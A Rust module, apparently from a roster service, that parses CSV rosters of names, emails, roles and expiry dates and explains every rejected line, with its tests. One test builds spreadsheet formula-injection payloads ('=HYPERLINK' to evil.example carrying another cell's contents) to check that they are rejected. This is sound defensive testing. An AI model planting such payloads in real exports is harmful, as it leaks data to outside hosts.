//! Reading a roster from a file of separated values, as spreadsheets and student records write it.
//!
//! Columns come in any order, and their names are taken as people write them. Every line that cannot be read is named,
//! with what was found and what would be right; a column nobody knows is a mistake too, since a misspelt `valid_until`
//! would otherwise be a role without an end. Nothing is guessed: where a file could be read in two ways, it is asked which.

mod columns;
mod dates;
mod quotes;
mod text;

use std::collections::BTreeMap;
use std::fmt;

use csv::{ReaderBuilder, StringRecord};
use jiff::tz::TimeZone;
use lodge_core::member::{Field, Role};
use lodge_core::name::{Address, DisplayName, clean_line};
use lodge_core::roster::{Entry, MailAddress};
use lodge_core::time::Timestamp;

use self::columns::{Column, columns, delimiter};
use self::dates::Written;
use crate::cells::is_formula;

pub use dates::Order;
pub use text::Encoding;

/// What whoever gives a file says of how it is to be read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Reading {
    /// In which order its dates stand, where they could be read in two.
    pub dates: Option<Order>,
    /// How it is encoded, where it does not say so itself and is not UTF-8.
    pub encoding: Option<Encoding>,
}

/// Why a file cannot be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Unfit {
    /// Lines of it cannot, in the file's order.
    Lines(Vec<BadLine>),
    /// These dates could be read in two ways, and in which order they stand was not said. All else is as it should be.
    DateOrder(Vec<BadLine>),
}

/// People as a file lists them, each with the line that they stand on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sheet {
    /// Who.
    pub entries: Vec<Entry>,
    /// On which line each of them begins, counted from 1.
    pub lines: Vec<u64>,
}

/// A line that cannot be taken in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BadLine {
    /// Which, counted from 1.
    pub line: u64,
    /// What is wrong, and what would be right.
    pub what: String,
}

impl fmt::Display for BadLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.what)
    }
}

/// The longest course, cohort, organisation or headline, in characters.
const VALUE_CHARS_MAX: usize = 200;

/// Reads a roster. The roles hold through their last day in the service's zone.
///
/// # Errors
/// Every line that cannot be read, or the dates whose order is not known.
pub fn read(bytes: &[u8], zone: &TimeZone, reading: &Reading) -> Result<Sheet, Unfit> {
    let text = text::decode(bytes, reading.encoding).map_err(Unfit::Lines)?;
    let (text, first, named) = without_separator_line(&text);
    let delimiter = named.unwrap_or_else(|| delimiter(text));
    let by = u8::try_from(delimiter).unwrap_or(b',');
    let mut reader = ReaderBuilder::new().delimiter(by).flexible(true).has_headers(false).from_reader(text.as_bytes());
    let mut lines = Lines { bytes: text.as_bytes(), at: 0, line: first };
    let mut records = reader.records().map(|record| {
        let record = record.map_err(|error| Unfit::Lines(vec![bad(lines.line, error.to_string())]))?;
        Ok((lines.of(&record), record))
    });
    let is_something = |record: &Result<(u64, StringRecord), Unfit>| {
        record.as_ref().map_or(true, |(_, record)| !record.iter().all(is_blank))
    };
    let Some(header) = records.by_ref().find(is_something) else {
        return Err(Unfit::Lines(vec![bad(1, "expected the names of the columns, found an empty file")]));
    };
    let (line, header) = header?;
    let columns =
        columns(&header).map_err(|whats| Unfit::Lines(whats.into_iter().map(|what| bad(line, what)).collect()))?;
    let unclosed = quotes::unclosed(text, delimiter, columns.len());
    if !unclosed.is_empty() {
        let below = |bad: BadLine| BadLine { line: bad.line + first - 1, ..bad };
        return Err(Unfit::Lines(unclosed.into_iter().map(below).collect()));
    }
    let mut people = People { order: reading.dates, ..People::new(zone) };
    for record in records.filter(is_something) {
        let (line, record) = record?;
        people.add(line, &record, &columns);
    }
    people.read()
}

/// The people of a file while they are read.
struct People<'a> {
    zone: &'a TimeZone,
    order: Option<Order>,
    sheet: Sheet,
    wrong: Vec<BadLine>,
    /// The dates that could be read in two ways.
    unclear: Vec<BadLine>,
    /// The first date of each order that can be read in that order alone.
    only: [Option<(Order, BadLine)>; 2],
}

impl<'a> People<'a> {
    fn new(zone: &'a TimeZone) -> Self {
        let sheet = Sheet { entries: Vec::new(), lines: Vec::new() };
        Self { zone, order: None, sheet, wrong: Vec::new(), unclear: Vec::new(), only: [None, None] }
    }

    fn add(&mut self, line: u64, record: &StringRecord, columns: &[Option<Column>]) {
        let cells = match cells(record, columns) {
            Ok(cells) => cells,
            Err(what) => return self.wrong.push(bad(line, what)),
        };
        let mut whats = Vec::new();
        let until = read_cell(&cells, Column::ValidUntil, &mut whats, |value| dates::read(value, self.order));
        let until = until.and_then(|written| self.last_day(line, &cells[&Column::ValidUntil], written));
        match entry(&cells, until, whats) {
            Ok(entry) => {
                self.sheet.entries.push(entry);
                self.sheet.lines.push(line);
            }
            Err(whats) => self.wrong.extend(whats.into_iter().map(|what| bad(line, what))),
        }
    }

    /// The moment at which the day is over that a date says; nothing for no end, and as long as it could be two days.
    fn last_day(&mut self, line: u64, value: &str, written: Written) -> Option<Timestamp> {
        let value = shortened(value);
        let day = match written {
            Written::NoEnd => return None,
            Written::Day(day) => day,
            Written::Only(order, day) => {
                let place = &mut self.only[usize::from(order != Order::DayFirst)];
                place.get_or_insert_with(|| (order, bad(line, format!("valid_until: {value} is {}", order.name()))));
                day
            }
            Written::Either(day_first, month_first) => {
                let what = format!("valid_until: {value} is {day_first} or {month_first}");
                self.unclear.push(bad(line, what));
                return None;
            }
        };
        let next = day.tomorrow().and_then(|next| next.to_zoned(self.zone.clone()));
        next.ok().map(|next| Timestamp::from_millis(next.timestamp().as_millisecond()))
    }

    fn read(mut self) -> Result<Sheet, Unfit> {
        if let [Some((_, one)), Some((_, other))] = &self.only {
            for line in [one, other] {
                let what = format!(
                    "{}, and other dates of the file are in the other order; write them all as in 2027-06-30",
                    line.what
                );
                self.wrong.push(bad(line.line, what));
            }
        }
        if !self.wrong.is_empty() {
            self.wrong.sort_by_key(|bad| bad.line);
            return Err(Unfit::Lines(self.wrong));
        }
        if self.unclear.is_empty() { Ok(self.sheet) } else { Err(Unfit::DateOrder(self.unclear)) }
    }
}

/// The text below a first line such as `sep=;`, by which spreadsheets are told what separates the cells, on which line it
/// begins, and what that was.
fn without_separator_line(text: &str) -> (&str, u64, Option<char>) {
    let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
    let told = first.trim().trim_matches('"').strip_prefix("sep=").and_then(|by| by.chars().next());
    // A tab is trimmed away with the blanks.
    let told = told.or_else(|| first.starts_with("sep=\t").then_some('\t')).filter(char::is_ascii);
    told.map_or((text, 1, None), |by| (rest, 2, Some(by)))
}

/// Counts the lines of a file.
struct Lines<'a> {
    bytes: &'a [u8],
    at: usize,
    line: u64,
}

impl Lines<'_> {
    /// On which line a record begins; they are asked about in their order. Where the reader says that it begins, the end
    /// of the line before may still be, and empty lines.
    fn of(&mut self, record: &StringRecord) -> u64 {
        let begins = record.position().and_then(|place| usize::try_from(place.byte()).ok()).unwrap_or(self.at);
        while let Some(byte) = self.bytes.get(self.at).filter(|byte| self.at < begins || b"\r\n".contains(byte)) {
            let next = self.bytes.get(self.at + 1);
            self.line += u64::from(*byte == b'\n' || (*byte == b'\r' && next != Some(&b'\n')));
            self.at += 1;
        }
        self.line
    }
}

/// Whether nothing can be seen in a cell.
fn is_blank(cell: &str) -> bool {
    clean_line(cell).is_empty()
}

/// What a line says, without what it says nothing about. Columns without a name are empty.
fn cells(record: &StringRecord, columns: &[Option<Column>]) -> Result<BTreeMap<Column, String>, String> {
    let named = columns.iter().rposition(Option::is_some).map_or(0, |last| last + 1);
    // A line that is longer may as well have a separator within a value, whatever is empty at its end.
    if record.len() < named || record.len() > columns.len() {
        return Err(format!(
            "{} values, where the first line names {named} columns; a value with the separator in it stands in \"quotes\"",
            record.len(),
        ));
    }
    let mut cells = BTreeMap::new();
    for (place, cell) in record.iter().enumerate().filter(|(_, cell)| !is_blank(cell)) {
        match columns.get(place).copied().flatten() {
            Some(column) if cell.contains('\u{FFFD}') => {
                return Err(format!(
                    "{}: \u{FFFD} stands where a letter was lost before; write it anew, found \"{}\"",
                    column.name(),
                    shortened(&clean_line(cell))
                ));
            }
            Some(column) => drop(cells.insert(column, clean_line(cell))),
            None => {
                return Err(format!(
                    "\"{}\" stands in column {}, which has no name in the first line; expected one of {}",
                    shortened(&clean_line(cell)),
                    place + 1,
                    columns::COLUMNS
                ));
            }
        }
    }
    Ok(cells)
}

/// The person on a line, or all that is wrong with it.
fn entry(
    cells: &BTreeMap<Column, String>,
    until: Option<Timestamp>,
    mut wrong: Vec<String>,
) -> Result<Entry, Vec<String>> {
    let mail = read_cell(cells, Column::Email, &mut wrong, mail);
    let address = read_cell(cells, Column::MatrixId, &mut wrong, |value| Address::typed(value).map_err(text_of));
    let name = read_cell(cells, Column::Name, &mut wrong, name);
    let role = read_cell(cells, Column::Role, &mut wrong, role);
    let cohort = read_cell(cells, Column::Cohort, &mut wrong, short);
    let mut details = BTreeMap::new();
    for (column, field) in [
        (Column::Organisation, Field::Organisation),
        (Column::Course, Field::Course),
        (Column::Headline, Field::Headline),
    ] {
        details.extend(read_cell(cells, column, &mut wrong, short).map(|value| (field, value)));
    }
    for (column, expected) in [(Column::Name, "a name"), (Column::Role, ROLES)] {
        if !cells.contains_key(&column) {
            wrong.push(format!("{}: expected {expected}, found nothing", column.name()));
        }
    }
    match (name, role) {
        (Some(name), Some(role)) if wrong.is_empty() => Ok(Entry { mail, address, name, role, cohort, details, until }),
        (Some(_) | None, _) => Err(wrong),
    }
}

/// What a cell says, if it says anything; what is wrong with it is noted.
fn read_cell<T>(
    cells: &BTreeMap<Column, String>,
    column: Column,
    wrong: &mut Vec<String>,
    read: impl FnOnce(&str) -> Result<T, String>,
) -> Option<T> {
    match read(cells.get(&column)?) {
        Ok(value) => Some(value),
        Err(what) => {
            wrong.push(format!("{}: {what}", column.name()));
            None
        }
    }
}

/// An address that is the same in a letter as in the list.
fn mail(value: &str) -> Result<MailAddress, String> {
    let mail = MailAddress::parse(value).map_err(text_of)?;
    if is_formula(mail.as_str()) {
        return Err(format!(
            "\"{}\" is what spreadsheets take for a formula; expected an address that begins with a letter or a digit",
            shortened(value)
        ));
    }
    Ok(mail)
}

/// A name that spreadsheets show and do not compute: whatever is made of the list may be opened in one.
fn name(value: &str) -> Result<DisplayName, String> {
    let name = DisplayName::parse(value).map_err(text_of)?;
    if is_formula(name.as_str()) {
        return Err(format!(
            "expected a name, found \"{}\", which spreadsheets take for a formula; write the name without the sign at its beginning",
            shortened(value)
        ));
    }
    Ok(name)
}

/// The roles that can be listed.
const ROLES: &str = "student, alumnus, employer, staff, intern or administrator";

fn role(value: &str) -> Result<Role, String> {
    let word = value.to_lowercase();
    Role::from_word(&word).ok_or_else(|| format!("expected {ROLES}, found \"{}\"", shortened(value)))
}

fn short(value: &str) -> Result<String, String> {
    let found = value.chars().count();
    if found > VALUE_CHARS_MAX {
        return Err(format!("expected at most {VALUE_CHARS_MAX} characters, found {found}"));
    }
    Ok(value.to_owned())
}

fn text_of(error: impl fmt::Display) -> String {
    error.to_string()
}

/// So much of it as fits into a line about it.
fn shortened(value: &str) -> String {
    value.chars().take(60).collect()
}

fn bad(line: u64, what: impl Into<String>) -> BadLine {
    BadLine { line, what: what.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_as(text: &str, reading: Reading) -> Result<Sheet, Unfit> {
        read(text.as_bytes(), &TimeZone::get("Europe/London").unwrap(), &reading)
    }

    fn read_text(text: &str) -> Result<Sheet, Vec<BadLine>> {
        read_as(text, Reading::default()).map_err(|unfit| match unfit {
            Unfit::Lines(bad) => bad,
            Unfit::DateOrder(unclear) => panic!("{unclear:?}"),
        })
    }

    #[test]
    fn columns_come_in_any_order_under_the_names_that_people_give_them() {
        let plain = "name,email,matrix_id,role,cohort,organisation,valid_until,course,headline\n\
                     Sam Reed,Sam@mail.example,@sam:example.org,student,2026,,2027-06-30,\"History, second year\",\n";
        let sheet = read_text(plain).unwrap();
        let others = [
            format!("\u{feff}{plain}"),
            plain.replace('\n', "\r\n"),
            format!("{plain}\n,,,,,,,,\n"),
            "Role;Full Name;E-Mail;Matrix ID;Valid until;Course;Year Group\n\
             Student;Sam  Reed; sam@mail.example ;@Sam:example.org;2027-06-30;History, second year;2026"
                .to_owned(),
            "address\tROLE\tMXID\tname\tends\tsubject\tcohort\n\
             sam@mail.example\tstudent\t@sam:example.org\tSam Reed\t2027-06-30\tHistory, second year\t2026\n"
                .to_owned(),
        ];
        for other in others {
            assert_eq!(read_text(&other).unwrap(), sheet, "{other}");
        }
        let [sam] = &sheet.entries[..] else { panic!("one is listed") };
        assert_eq!((sam.role, sam.cohort.as_deref()), (Role::Student, Some("2026")));
        assert_eq!(sam.details[&Field::Course], "History, second year");
        assert_eq!(sheet.lines, [2]);
    }

    #[test]
    fn a_role_holds_through_its_last_day_in_the_services_zone() {
        let until = |day: &str| {
            let sheet =
                read_text(&format!("name,email,role,valid_until\nSam,sam@mail.example,student,{day}\n")).unwrap();
            sheet.entries[0].until.unwrap().as_millis()
        };
        let moment = |text: &str| text.parse::<jiff::Timestamp>().unwrap().as_millisecond();
        assert_eq!(until("2027-06-30"), moment("2027-06-30T23:00:00Z"), "summer time");
        assert_eq!(until("2026-12-31"), moment("2027-01-01T00:00:00Z"));
    }

    #[test]
    fn each_bad_line_is_named_with_what_is_wrong_and_what_would_be_right() {
        let head = "name,email,matrix_id,role,organisation,valid_until\n";
        let bad = [
            (
                "Sam,sam,,student,,",
                "email: not an email address: expected one such as \"sam@example.org\", found \"sam\"",
            ),
            (
                "Sam,,sam:example.org,student,,",
                "matrix_id: not a full Matrix id: expected one such as \"@sam:example.org\", found \"sam:example.org\"",
            ),
            (
                "Sam,sam@mail.example,,boss,,",
                "role: expected student, alumnus, employer, staff, intern or administrator, found \"boss\"",
            ),
            (
                "Sam,sam@mail.example,,,,",
                "role: expected student, alumnus, employer, staff, intern or administrator, found nothing",
            ),
            (",sam@mail.example,,student,,", "name: expected a name, found nothing"),
            (
                "S\u{0430}m,sam@mail.example,,student,,",
                "name: the name \"S\u{0430}m\" mixes alphabets so that it can be read as another name; write it in one \
                 alphabet",
            ),
            (
                "Sam,=sam@mail.example,,student,,",
                "email: \"=sam@mail.example\" is what spreadsheets take for a formula; expected an address that begins with \
                 a letter or a digit",
            ),
            (
                "=1+1,sam@mail.example,,student,,",
                "name: expected a name, found \"=1+1\", which spreadsheets take for a formula; write the name without the \
                 sign at its beginning",
            ),
            (
                "Sam,sam@mail.example,,student,,31/06/2027",
                "valid_until: expected a date such as 2027-06-30, found \"31/06/2027\"",
            ),
            (
                "Sam,sam@mail.example,,student,,2027-06-30T10:00",
                "valid_until: expected a date such as 2027-06-30, found \"2027-06-30T10:00\"",
            ),
            (
                "Sam,sam@mail.example,,student,,2027-02-30",
                "valid_until: expected a date such as 2027-06-30, found \"2027-02-30\"",
            ),
            (
                "Sam,sam@mail.example,,student",
                "4 values, where the first line names 6 columns; a value with the separator in it stands in \"quotes\"",
            ),
            (
                "Sam,sam@mail.example,,student,Reed, Sons and Co,",
                "7 values, where the first line names 6 columns; a value with the separator in it stands in \"quotes\"",
            ),
        ];
        let file = bad.iter().fold(head.to_owned(), |file, (line, _)| format!("{file}{line}\n"));
        let named = read_text(&file).unwrap_err();
        let expected = bad.iter().zip(2..).map(|((_, what), line)| BadLine { line, what: (*what).to_owned() });
        assert_eq!(named, expected.collect::<Vec<_>>());
        let long = format!("{head}\"Sam\",sam@mail.example,,student,{},\n", "x".repeat(201));
        assert_eq!(read_text(&long).unwrap_err()[0].what, "organisation: expected at most 200 characters, found 201");
    }

    #[test]
    fn no_name_is_a_formula_to_a_spreadsheet() {
        for sign in
            ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u{a0}+", "\u{200b}@", "\r\n=", "−", "﹣"]
        {
            let cell = format!("{sign}HYPERLINK(\"\"http://evil.example/?c=\"\"&D2)");
            let named = read_text(&format!(
                "name,email,role\nNoor,n@mail.example,student\n\"{cell}\",s@mail.example,student\n"
            ));
            let [BadLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
            assert!(what.contains("which spreadsheets take for a formula"), "{what}");
        }
        for name in ["Anne-Marie", "Jean-", "O’Brien", "'Afa", "Sam (=Pat)"] {
            let sheet = read_text(&format!("name,email,role\n{name},s@mail.example,student\n")).unwrap();
            assert_eq!(sheet.entries[0].name.as_str(), name);
        }
    }

    #[test]
    fn a_line_that_stands_below_a_value_of_several_lines_has_its_own_number() {
        let file = "name,email,role\n\"Sam\nReed\",sam@mail.example,student\nNoor,noor@mail.example,boss\n";
        assert_eq!(read_text(file).unwrap_err()[0].line, 4);
    }

    #[test]
    fn a_first_line_that_leaves_something_open_is_named() {
        for (head, what) in [
            ("", "expected the names of the columns, found an empty file"),
            ("name,role", "there is neither a column email nor matrix_id; people are found by one of them"),
            ("email,role", "there is no column name; every person has one"),
            ("name,email", "there is no column role; every person has one"),
            (
                "name,email,role,e-mail",
                "column 2 \"email\" and column 4 \"e-mail\" are both the email; expected one of each",
            ),
            (
                "name,email,role,valid_untill",
                &format!("there is no column \"valid_untill\"; expected some of {}", columns::COLUMNS),
            ),
        ] {
            let named = read_text(&format!("{head}\n")).or_else(|_| read_text(head)).unwrap_err();
            assert_eq!(named, [bad_line(1, what)], "{head}");
        }
    }

    #[test]
    fn a_list_reads_the_same_however_a_spreadsheet_wrote_it() {
        let sheet = read_text("name,email,role,valid_until\nSam Reed,sam@mail.example,student,2027-06-30\n").unwrap();
        for (file, line) in [
            ("sep=;\r\nName;E-Mail;Role;Valid until\r\nSam Reed;sam@mail.example;Student;2027-06-30\r\n", 3),
            ("\"sep=;\"\nName;E-Mail;Role;Valid until\nSam Reed;sam@mail.example;Student;30/06/2027\n", 3),
            ("sep=\t\nname\temail\trole\tends\nSam Reed\tsam@mail.example\tstudent\t30.6.2027\n", 3),
            ("name|email|role|until\nSam Reed|sam@mail.example|student|2027-06-30 00:00:00\n", 2),
            (
                "\r\n;;;;\r\nname;email;role;until;;\r\nSam Reed;sam@mail.example;student;30 June 2027;;\r\n;;;;;\r\n \u{a0};;;;;\r\n",
                4,
            ),
            ("name,email,role,until,,\nSam Reed,sam@mail.example,student,2027-06-30,\n,,,,,,,\n", 2),
            (",name,email,,role,until\n,Sam Reed,sam@mail.example,,student,2027-06-30\n", 2),
            ("name\remail\r", 0),
            ("\"Name (full name)\",\"E mail\",\"ROLE\",\"End, date\"\r\n", 0),
            (
                "\"name\",\"email\",\"role\",\"end date\"\r\"Sam\nReed\",\"sam@mail.example\",\"student\",\"30-Jun-2027\"\r",
                2,
            ),
            ("name,email,role,until\n\"Sam\r\nReed\",sam@mail.example,\"stu\u{200b}dent\",2027-06-30", 2),
        ] {
            match read_text(file) {
                Ok(read) => assert_eq!((&read.entries, &read.lines[..]), (&sheet.entries, &[line][..]), "{file:?}"),
                Err(bad) => assert_eq!(line, 0, "{file:?}: {bad:?}"),
            }
        }
    }

    #[test]
    fn which_of_two_days_a_date_is_is_asked_for_once_and_never_guessed() {
        let file = "name,email,role,valid_until\nSam,s@mail.example,student,01/02/2027\nNoor,n@mail.example,student,30/06/2027\n";
        let unclear = "valid_until: 01/02/2027 is 2027-02-01 or 2027-01-02";
        assert_eq!(read_as(file, Reading::default()), Err(Unfit::DateOrder(vec![bad_line(2, unclear)])));
        let until = |file: &str, order| {
            let sheet = read_as(file, Reading { dates: Some(order), ..Reading::default() });
            let last = |entry: &Entry| {
                crate::roster::shown::last_day(entry.until.unwrap(), &TimeZone::get("Europe/London").unwrap())
            };
            sheet.map(|sheet| sheet.entries.iter().map(last).collect::<Vec<_>>())
        };
        assert_eq!(until(file, Order::DayFirst).unwrap(), ["2027-02-01", "2027-06-30"]);
        let wrong = bad_line(3, "valid_until: month-first: expected a date such as 2027-06-30, found \"30/06/2027\"");
        assert_eq!(until(file, Order::MonthFirst), Err(Unfit::Lines(vec![wrong])));
        assert!(matches!(until(file, Order::YearFirst), Err(Unfit::Lines(bad)) if bad.len() == 2));
        let mixed = read_text(&file.replace("01/02/2027", "06/30/2027")).unwrap_err();
        assert_eq!(mixed.iter().map(|bad| bad.line).collect::<Vec<_>>(), [2, 3]);
        assert!(
            mixed[0].what.contains("06/30/2027 is month-first, and other dates of the file are in the other order"),
            "{mixed:?}"
        );
        // What else is wrong is said first, so that nobody is asked in vain.
        assert_eq!(read_text(&file.replace("Noor,", ",")).unwrap_err()[0].line, 3);
        let endless = read_text(&file.replace("01/02/2027", "31/12/9999")).unwrap();
        assert_eq!(endless.entries[0].until, None);
    }

    #[test]
    fn nobody_is_swallowed_by_a_quotation_mark_and_nothing_stands_where_it_is_not_read() {
        for (file, line, what) in [
            (
                "sep=,\nname,email,role,course\nSam,s@m.example,student,\"History\nNan,n@m.example,student,\n",
                3,
                "none closes it",
            ),
            (
                "name,email,role,\nSam,s@m.example,student,\nNan,n@m.example,student,2027-06-30\n",
                3,
                "column 4, which has no name",
            ),
            ("name,email,role\nSam,s@m.example,student,2027\n", 2, "4 values, where the first line names 3 columns"),
            ("name,email,role\nRen\u{fffd}e,s@m.example,student\n", 2, "stands where a letter was lost before"),
        ] {
            let bad = read_text(file).unwrap_err();
            assert!(bad.len() == 1 && bad[0].line == line && bad[0].what.contains(what), "{bad:?}");
        }
    }

    fn bad_line(line: u64, what: &str) -> BadLine {
        BadLine { line, what: what.to_owned() }
    }
}
